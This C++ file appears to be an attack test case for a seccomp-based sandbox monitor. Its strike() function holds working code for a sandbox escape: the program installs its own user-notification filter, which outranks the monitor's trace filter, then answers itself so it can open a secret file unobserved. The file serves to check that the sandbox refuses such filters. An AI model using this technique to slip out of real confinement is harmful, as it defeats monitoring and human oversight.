// attack: listener-handling
// class: lifecycle
// severity: high
// trap: Install a filter of one's own whose SECCOMP_RET_USER_NOTIF outranks the monitor's
//   SECCOMP_RET_TRACE, keep its listener, and answer oneself: "continue". The monitor is never asked.
// naive: Lets the program add filters; they can only restrict, can they not?
// kernel: Of all filters the action of highest precedence wins: USER_NOTIF before TRACE (seccomp(2)).
// sealed: New filters are refused.
// source: seccomp(2), "RETURN VALUE" precedence; opencontainers/runc#4328
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: none
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/ioctl.h>
#include <thread>
#include "tests/support/attack.h"

namespace attack {

void strike() {
  sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  sock_fprog program{4, code};
  ::prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  int listener = -1;
  int go[2];
  must(::pipe(go) == 0, "pipe");
  // The answerer must not be under the filter, so it starts first.
  std::thread answerer([&] {
    char byte = 0;
    if (::read(go[0], &byte, 1) != 1 || listener < 0) return;
    for (;;) {
      seccomp_notif request{};
      if (::ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) != 0) return;
      seccomp_notif_resp response{};
      response.id = request.id;
      response.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
      ::ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &response);
    }
  });
  answerer.detach();
  std::string key = secret();
  listener = static_cast<int>(::syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
                                        SECCOMP_FILTER_FLAG_NEW_LISTENER, &program));
  int error = errno;
  must(::write(go[1], "x", 1) == 1, "write");
  take(static_cast<int>(::syscall(SYS_openat, AT_FDCWD, key.c_str(), O_RDONLY)));
  if (listener < 0) errno = error;
  held("own filter");
}

void twin() {
  must(::prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0, "no_new_privs");
  must(::prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 1, "no_new_privs is set");
  must(reads(work("ok.dat"), "harmless\n"), "open");
  twin_ok();
}

}  // namespace attack
